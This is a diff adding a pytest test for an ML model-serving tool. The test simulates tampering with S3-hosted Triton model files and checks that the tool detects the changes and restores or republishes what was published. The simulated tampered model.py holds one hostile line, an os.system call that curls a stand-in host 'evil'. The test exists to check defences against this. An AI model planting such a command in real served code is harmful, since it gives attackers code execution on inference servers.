@@ -285,3 +285,59 @@ def test_unreachable_servers_are_one_line_naming_the_url_and_exit_75(registry: P
     assert prefect_down.stderr.strip() == (f"faceforge retrain: transient failure, worth retrying: the Prefect API "
                                            f"at {dead}/api is unreachable (ConnectError: [Errno 111] Connection "
                                            "refused)")
+
+
+def test_tampered_served_files_are_reported_and_put_back_from_mlflow(registry: Params, tmp_path: Path,
+                                                                      s3: Any) -> None:
+    """Someone with write access to the S3 repository replaces the served model.onnx, the photo-in model's
+    code that Triton executes, and adds a module next to it; later, a model and its manifest together.
+    `promote --check` names each and exits non-zero; the watcher's next poll tags the version and puts back
+    exactly what was published (from MLflow and this installation), or publishes the version again."""
+    from typer.testing import CliRunner
+
+    from faceforge.cli import app
+    from flows.serving import check_served_files
+
+    remote, bucket = "s3://models/triton", "models"
+    v1 = _register(registry, _onnx(tmp_path / "a.onnx", 1.0), passed=True)
+    _approve(v1)
+    serve_champion(registry, [remote], require_champion=False)
+    assert check_served_files(registry, [remote]) == []
+    published = {key: s3.get_object(Bucket=bucket, Key=f"triton/{key}")["Body"].read()
+                 for key in (f"{NAME}/1/model.onnx", f"{PIPELINE}/1/model.py")}
+
+    s3.put_object(Bucket=bucket, Key=f"triton/{NAME}/1/model.onnx", Body=_onnx(tmp_path / "x.onnx", 9.0).read_bytes())
+    s3.put_object(Bucket=bucket, Key=f"triton/{PIPELINE}/1/model.py", Body=b"import os\nos.system('curl evil')\n")
+    s3.put_object(Bucket=bucket, Key=f"triton/{PIPELINE}/1/helpers.py", Body=b"# shadowing a module\n")
+    checked = CliRunner().invoke(app, ["promote", "--check", "--serving-repository", remote])
+    assert checked.exit_code == 1, checked.output
+    for named in (f"{NAME}/1/model.onnx: changed", f"{PIPELINE}/1/model.py: changed",
+                  f"{PIPELINE}/1/helpers.py: not in the manifest"):
+        assert named in checked.output, checked.output
+
+    healed = serve_champion(registry, [remote], require_champion=False)
+    assert sorted((t["model"], t["version"], t["action"]) for t in healed["tampered"]) == [
+        (NAME, 1, "restored"), (PIPELINE, 1, "restored")]
+    for key, data in published.items():
+        assert s3.get_object(Bucket=bucket, Key=f"triton/{key}")["Body"].read() == data
+    assert "Contents" not in s3.list_objects_v2(Bucket=bucket, Prefix=f"triton/{PIPELINE}/1/helpers.py")
+    tag = json.loads(mlflow.MlflowClient().get_model_version(NAME, v1).tags["serving.tampered"])
+    assert tag["action"] == "restored" and tag["problems"]
+    assert check_served_files(registry, [remote]) == []
+    assert CliRunner().invoke(app, ["promote", "--check", "--serving-repository", remote]).exit_code == 0
+
+    # A model replaced together with its manifest's checksum: consistent in itself, but not what the gate
+    # evaluated (the registry's model_sha256). Published again from MLflow as version 2, which is served.
+    other = _onnx(tmp_path / "y.onnx", 7.0).read_bytes()
+    manifest_key = f"triton/{NAME}/1/faceforge.json"
+    manifest = json.loads(s3.get_object(Bucket=bucket, Key=manifest_key)["Body"].read())
+    manifest["sha256"]["model.onnx"] = sha256_file(tmp_path / "y.onnx")
+    s3.put_object(Bucket=bucket, Key=f"triton/{NAME}/1/model.onnx", Body=other)
+    s3.put_object(Bucket=bucket, Key=manifest_key, Body=json.dumps(manifest).encode())
+    assert "registry's model_sha256" in check_served_files(registry, [remote])[0]["problems"][0]
+    again = serve_champion(registry, [remote], require_champion=False)
+    assert [t["action"] for t in again["tampered"]] == ["republished as version 2"]
+    store = open_store(remote)
+    assert _serving(store) == ([2], v1) and read_manifest(store, NAME, 2)["sha256"]["model.onnx"] == sha256_file(
+        tmp_path / "a.onnx")
+    assert check_served_files(registry, [remote]) == []
